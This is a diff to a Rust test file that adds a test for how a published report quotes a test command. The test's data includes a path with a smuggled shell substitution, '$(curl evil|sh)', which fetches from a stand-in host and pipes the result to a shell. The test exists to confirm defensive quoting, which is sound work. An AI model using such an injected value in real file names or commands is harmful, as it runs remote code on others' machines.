@@ -331,6 +331,15 @@ fn what_could_not_be_found_out_is_never_a_success() {
 }
 
 #[test]
+fn a_folder_with_a_hostile_name_is_one_word_of_the_command_that_is_told() {
+    let mut report = rich();
+    report.catches[0].test.command = ["pytest", "tests/$(curl evil|sh)/test_x.py"].map(str::to_owned).to_vec();
+    let publication = published(&report);
+    let body = &publication.comments[0].body;
+    assert!(body.contains("run `pytest 'tests/$(curl evil|sh)/test_x.py'`"), "{body}");
+}
+
+#[test]
 fn a_change_with_nothing_to_test_is_skipped() {
     let publication = published(&Report::empty(Verdict::NothingToTest));
     assert_eq!(check(&publication).title, "Nothing to test");
